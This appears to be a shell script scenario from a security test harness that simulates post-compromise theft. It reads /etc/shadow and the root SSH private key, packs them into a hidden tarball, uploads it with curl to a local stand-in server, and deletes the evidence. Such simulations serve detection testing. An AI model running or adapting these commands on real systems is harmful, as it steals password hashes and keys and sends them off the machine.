# What opens the next machine: hashes, a key, another's memory; packed, and carried away.
. "$(dirname "$0")/scene.sh"
mkdir -p /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
deed shadow-read
cat /etc/shadow >hashes
deed secrets-read
cat /root/.ssh/id_ed25519 >key
deed data-staged
tar czf /tmp/.loot.tgz /etc/shadow /root/.ssh 2>/dev/null
deed upload
curl -s -m 2 -F "file=@/tmp/.loot.tgz" "http://127.1.0.1:$web/" >/dev/null || true
rm -f /tmp/.loot.tgz
